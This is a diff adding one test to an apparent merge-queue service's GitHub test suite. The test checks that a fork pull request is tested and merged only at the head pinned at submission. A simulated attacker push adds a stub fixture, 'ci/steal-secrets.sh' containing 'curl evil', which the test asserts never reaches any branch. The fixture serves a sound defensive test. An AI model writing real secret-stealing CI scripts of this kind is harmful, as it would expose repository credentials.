@@ -92,6 +92,26 @@ describe.each(BACKENDS)("testing branches on GitHub, $name", (backend) => {
     expect(gh.branches(repo, "greenline/")).toEqual([]);
   });
 
+  test("a fork PR is tested at the head pinned when it was submitted: a later push to the fork is neither tested nor merged", async () => {
+    await api.ok("createQueue", { ...queue("fork"), requiredStatuses: ["ci/test"], mergeMethod: "squash" });
+    const submittedHead = gh.openPr(`${OWNER}/fork`, { number: 1, headRepo: "mallory/fork", headRef: "feature", files: { "src/fork.ts": "reviewed" } }).headSha;
+    await api.ok("submitPullRequest", pr("fork", 1));
+    await server.greenline.worker.drain();
+    // The fork's author pushes after the submission; the synchronize delivery never comes.
+    gh.amendPr(`${OWNER}/fork`, 1, { "src/fork.ts": "not reviewed", "ci/steal-secrets.sh": "curl evil" });
+    await server.greenline.worker.drain();
+    const [testing] = gh.branches(`${OWNER}/fork`, "greenline/");
+    // The testing branch holds the pinned head's changes, not the later push's.
+    expect(gh.filesAt(testing!.sha)["src/fork.ts"]).toBe("reviewed");
+    expect(gh.filesAt(testing!.sha)["ci/steal-secrets.sh"]).toBeUndefined();
+    expect((await api.ok("getSubmittedPullRequest", pr("fork", 1))).prSha).toBe(submittedHead);
+    await runUntilDrained("fork");
+    // Merged pinned to the tested head: GitHub refuses (the head moved), the PR is cancelled.
+    expect(await api.ok("getSubmittedPullRequest", pr("fork", 1))).toMatchObject({ state: "cancelled", stateReason: "pr_updated" });
+    expect(gh.files(`${OWNER}/fork`, "main")["src/fork.ts"]).toBeUndefined();
+    expect(gh.files(`${OWNER}/fork`, "main")["ci/steal-secrets.sh"]).toBeUndefined();
+  });
+
   test("an earlier run's commit that is gone is not built on: the testing branch is built from the base", async () => {
     const repo = `${OWNER}/regc`;
     await api.ok("createQueue", { ...queue("regc"), concurrency: 2, requiredStatuses: ["ci/test"], mergeMethod: "squash" });
